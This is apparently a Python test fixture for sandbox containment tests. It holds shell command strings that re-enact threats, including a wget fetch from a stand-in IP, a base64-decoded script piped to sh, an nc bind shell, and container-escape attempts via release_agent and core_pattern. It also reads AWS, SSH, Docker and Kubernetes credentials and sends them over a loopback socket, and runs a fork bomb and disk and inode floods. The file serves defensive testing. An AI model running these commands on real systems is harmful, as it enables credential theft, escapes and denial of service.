"""Harmless busybox re-enactments, shared by the containment tests and the corpus capture."""

from __future__ import annotations

# Sleeps ten minutes, then drops a script and runs it (THREATS.md #4, delayed payload).
DELAYED_PAYLOAD = (
    "sleep 600; printf '#!/bin/sh\\necho payload-ran\\n' > /tmp/payload.sh; "
    "chmod 755 /tmp/payload.sh; /tmp/payload.sh"
)

PROCESS_TREE = (
    "busybox true; sh -c 'exit 4'; /nonexistent/tool --x; "
    "yes > /dev/null & kill -9 $!; "
    "(echo sub; busybox true) & wait; "
    "printf 'echo noshebang\\n' > /tmp/ns; chmod +x /tmp/ns; /tmp/ns; exit 3"
)

FILE_OPERATIONS = (
    "cd /tmp && mkdir -p d/e && echo a > d/e/f && mv d/e/f d/e/g && ln -s /etc/passwd lnk && "
    "ln d/e/g hard && chmod 600 d/e/g && rm d/e/g && echo x >> /etc/motd && rm /etc/passwd && "
    "echo y > ../var/log/new.log; mkdir /tmp"
)

NETWORK = (
    "nc -l -p 8080 & sleep 1; "
    "wget -q -O /tmp/p http://192.0.2.10:3333/p.sh; "
    "echo hi | nc 127.0.0.1 8080; "
    "nc local:/var/run/docker.sock </dev/null; wait"
)

# Each escape or kernel attempt must fail and be reported (THREATS.md #13, #18).
PRIVILEGED = (
    "mkdir -p /mnt/x; mount -t ext4 /dev/vda /mnt/x; mount -t cgroup -o memory cgroup /mnt/x; "
    "echo not-a-module > /tmp/rootkit.ko; insmod /tmp/rootkit.ko; "
    "echo b > /proc/sysrq-trigger; "
    "echo /tmp/x > /sys/fs/cgroup/release_agent; "
    "echo '|/tmp/x' > /proc/sys/kernel/core_pattern; "
    "busybox unshare -U true 2>/dev/null; "
    "exit 0"
)

# Decoded text piped into a shell, a kill of a sibling from a `sh -c` (kill is a builtin: no
# exec of its own), a shell whose stdin/stdout is an accepted socket (`nc -e`, loopback only),
# and a script whose applet busybox re-execs as /proc/self/exe.
PIPES_AND_SIGNALS = (
    "echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh; "
    'yes > /dev/null & sh -c "kill $!"; wait; '
    "nc -l -p 8080 -e /bin/sh & "
    "for i in 1 2 3 4 5; do echo 'echo over-socket' | nc 127.0.0.1 8080 && break; sleep 1; done; "
    "printf '#!/bin/sh\\nwget -q -O /dev/null http://127.0.0.1:9/\\n' > /tmp/start.sh; "
    "chmod 755 /tmp/start.sh; /tmp/start.sh; exit 0"
)

FORK_BOMB = "bomb() { bomb | bomb & }; bomb; sleep 3; echo survived"
# dd's 300 MB buffer is touched at once (a shell variable grew too slowly to meet the limit).
MEMORY_HOG = "dd if=/dev/zero of=/dev/null bs=300M count=1; echo dd-exit=$?"
DISK_FILL = "dd if=/dev/zero of=/tmp/fill bs=1M count=4096; echo dd-done; ls -la /tmp/fill"
# Two loops of shell builtins: no syscalls, so no tracer stops (`yes` spent its time in them).
CPU_SPIN = "while :; do :; done & while :; do :; done & wait"
# Ptrace a host pid: pid 1 of the host is not visible inside the pid namespace.
PTRACE_HOST = "busybox strace -p 1 2>/dev/null || true"
QUIET_SERVER = "nc -l -p 8080"

# Reads the planted credentials (relative path, tar of a directory), exfiltrates one over a
# socket with write(), and makes a file immutable (THREATS.md: credential theft, persistence).
CREDENTIAL_THEFT = (
    "cat /root/.aws/credentials > /dev/null; cd /root/.ssh && cat id_rsa > /dev/null; cd /; "
    "tar -cf /tmp/loot.tar /var/run/secrets/kubernetes.io/serviceaccount 2>/dev/null; "
    "echo data > /tmp/locked; /bin/chattr-immutable; "
    # The listener's stdin is a FIFO it holds open itself: a background job's stdin is
    # /dev/null, whose EOF made the listener half-close the connection at once, and a client
    # that saw that EOF before `cat` had written exited without sending (1 run in 6 under load).
    # Sleeps are skipped in the sandbox: wait for the listener itself (8080 = 0x1F90, LISTEN).
    "mkfifo /tmp/hold; nc -l -p 8080 <> /tmp/hold > /dev/null & i=0; "
    "until grep -q ':1F90 [0-9A-F]*:0000 0A' /proc/net/tcp /proc/net/tcp6 || [ $i -gt 300 ]; "
    "do i=$((i+1)); done; "
    "cat /root/.docker/config.json | nc 127.0.0.1 8080; wait; "
    'echo "$KUBERNETES_SERVICE_HOST"'
)

# Resource bombs (issue 14), each bounded by a sandbox limit, never by its own good manners.
# Empty files until the writable layer has no inode left (bounded loop: 200000).
INODE_FLOOD = (
    # `true`, not `:`: a failed redirection of a special builtin would end the shell
    "i=0; while [ $i -lt 200000 ] && true 2>/dev/null > /tmp/f$i; do i=$((i+1)); done; "
    "echo files=$i"
)
# stdout and stderr flooded without end; `yes` ignores the write errors once the log is full.
LOG_FLOOD = "yes stdout-flood-line & yes stderr-flood-line >&2"
# Millions of cheap traced calls: an open+close per round, forever.
TRACE_FLOOD = "while :; do : > /tmp/x; done"
# ~1.2 MB of argv (100000 words) and a 100 kB environment variable, handed to one exec.
HUGE_ARGV = (
    'export BIG="$(yes 0123456789 | head -c 100000)"; '
    'set -- $(yes abcdefghij | head -n 100000); busybox true "$@"; echo argc=$#'
)
# Ignores every polite signal and spins: only SIGKILL ends it.
TERM_IGNORER = "trap '' TERM INT HUP QUIT USR1 USR2; while :; do :; done"
# 100 children that exit at once and a parent (exec'd into nc) that never reaps them.
ZOMBIE_ARMY = "i=0; while [ $i -lt 100 ]; do true & i=$((i+1)); done; exec nc -l -p 8080"
